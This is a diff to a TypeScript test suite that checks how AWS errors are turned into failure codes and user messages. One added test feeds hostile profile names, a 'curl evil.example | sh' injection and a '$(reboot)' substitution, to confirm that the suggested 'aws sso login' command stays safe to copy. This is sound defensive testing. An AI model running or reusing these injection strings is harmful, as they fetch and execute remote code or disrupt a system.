@@ -45,7 +45,21 @@ const cases: readonly Case[] = [
     code: 'not-found',
     says: /\/app\/db.*eu-west-1/,
   },
-  { what: 'no version', thrown: service('ParameterVersionNotFound'), code: 'not-found' },
+  {
+    what: 'no version',
+    thrown: service('ParameterVersionNotFound'),
+    code: 'not-found',
+    says: /it has no such version/,
+  },
+  {
+    what: 'no version of a secret',
+    thrown: service(
+      'ResourceNotFoundException',
+      "Secrets Manager can't find the specified secret value for staging label: BLUE",
+    ),
+    code: 'not-found',
+    says: /it has no such version/,
+  },
   { what: 'no secret', thrown: service('ResourceNotFoundException'), code: 'not-found' },
   { what: 'no key', thrown: service('NotFoundException'), code: 'not-found' },
   {
@@ -165,6 +179,19 @@ const cases: readonly Case[] = [
     code: 'no-credentials',
     says: /clock/,
   },
+  {
+    what: 'a clock that is wrong, by its own name',
+    thrown: service('RequestTimeTooSkewed', '', 403),
+    code: 'no-credentials',
+    says: /clock/,
+  },
+  { what: 'a malformed token', thrown: service('InvalidToken'), code: 'no-credentials' },
+  {
+    what: 'a login session that is over',
+    thrown: provider('Your session has expired. Please reauthenticate.'),
+    code: 'expired',
+    says: /aws login --profile dev$/,
+  },
   { what: 'throttling', thrown: service('ThrottlingException'), code: 'throttled', says: /throttled/ },
   { what: 'throttling of another kind', thrown: service('TooManyRequestsException'), code: 'throttled' },
   { what: 'throttling without a name', thrown: service('Strange', '', 429), code: 'throttled' },
@@ -188,6 +215,30 @@ const cases: readonly Case[] = [
     thrown: system('SELF_SIGNED_CERT_IN_CHAIN'),
     code: 'unreachable',
     says: /certificate/,
+  },
+  {
+    what: 'a certificate of another host',
+    thrown: system('ERR_TLS_CERT_ALTNAME_INVALID'),
+    code: 'unreachable',
+    says: /certificate/,
+  },
+  {
+    what: 'plain HTTP where TLS was expected',
+    thrown: system('ERR_SSL_WRONG_VERSION_NUMBER'),
+    code: 'unreachable',
+    says: /endpoint/,
+  },
+  {
+    what: 'something that speaks no HTTP',
+    thrown: system('HPE_INVALID_CONSTANT'),
+    code: 'unreachable',
+    says: /endpoint/,
+  },
+  {
+    what: 'addresses that were all tried in vain',
+    thrown: system('ERR_SOCKET_CONNECTION_TIMEOUT'),
+    code: 'unreachable',
+    says: /in time/,
   },
   {
     what: 'a proxy that speaks HTML',
@@ -275,6 +326,20 @@ describe('errors of AWS', () => {
     });
     assert.equal(message, 'Could not list keys: AWS does not accept the request.');
   });
+
+  const profiles: [string, string][] = [
+    ['dev', ' --profile dev'],
+    ['my company', ' --profile "my company"'],
+    ['-v', ' --profile "-v"'],
+    ['x"; curl evil.example | sh #', ' --profile YOUR-PROFILE'],
+    ['$(reboot)', ' --profile YOUR-PROFILE'],
+  ];
+  for (const [profile, option] of profiles) {
+    it(`gives a command that is safe to copy for the profile ${profile}`, () => {
+      const { message } = toFailure(service('ExpiredToken'), { ...context, profile });
+      assert.ok(message.endsWith(`aws sso login${option}`), message);
+    });
+  }
 
   it('names the endpoint when it is not AWS itself', () => {
     const endpoint = 'http://127.0.0.1:4566';
